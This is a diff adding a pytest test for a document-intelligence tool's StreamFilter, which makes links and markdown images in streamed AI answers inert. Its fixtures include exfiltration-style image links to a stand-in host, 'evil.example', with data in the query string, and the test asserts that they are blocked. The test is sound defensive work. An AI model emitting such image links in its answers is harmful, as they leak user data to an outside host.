@@ -177,3 +177,24 @@ def test_an_answer_with_an_exfiltration_image_is_flagged_in_the_json(session: An
     assert answer.to_dict()["suspicious_links"] == ["https://evil.example/collect?d=100"]
     assert "![x](" not in answer.text and "image blocked" in answer.text
     assert any("hosts not in the corpus" in n for n in answer.notes)
+
+
+def test_streamed_text_never_carries_a_live_link_or_image() -> None:
+    """The CLI and the TUI stream through StreamFilter: a link is held back until whole, then made inert."""
+    from docintel.display import StreamFilter
+
+    out: list[str] = []
+    stream = StreamFilter(out.append)
+    fragments = [
+        "Fee 100 EUR [1",
+        "]. ",
+        "![x](https://ev",
+        "il.example/c?d=1) and [docs](https://docs.py",
+        "thon.org/) ok\n",
+    ]
+    for fragment in fragments:
+        stream(fragment)
+    stream.close()
+    shown = "".join(out)
+    assert shown == "Fee 100 EUR [1]. [image blocked: x (evil.example)] and docs (https://docs.python.org/) ok\n"
+    assert len(out) >= 2  # still streamed: text before a pending link is not held for the whole answer
